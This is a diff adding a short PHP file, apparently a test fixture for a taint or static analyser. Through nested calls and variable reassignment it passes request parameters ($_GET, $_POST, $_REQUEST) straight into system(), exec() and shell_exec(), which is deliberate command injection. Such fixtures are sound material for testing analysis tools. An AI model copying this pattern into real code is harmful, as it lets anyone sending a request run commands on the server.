@@ -0,0 +1,9 @@
+<?php
+// Deep nesting: every level re-serialised the whole subtree before.
+$v = trim(strtolower(htmlspecialchars(substr(str_replace("a", "b", trim(trim(trim("$_GET[x]")))), 0, 10))));
+$w = array(array(array(array(array("$_POST[y]")))));
+system(implode(",", array_map('trim', explode(",", "$_REQUEST[z]"))));
+if ($a) { if ($b) { if ($c) { if ($d) { exec("run $_GET[deep]"); } } } }
+$t = $v;
+$u = $t;
+shell_exec($u);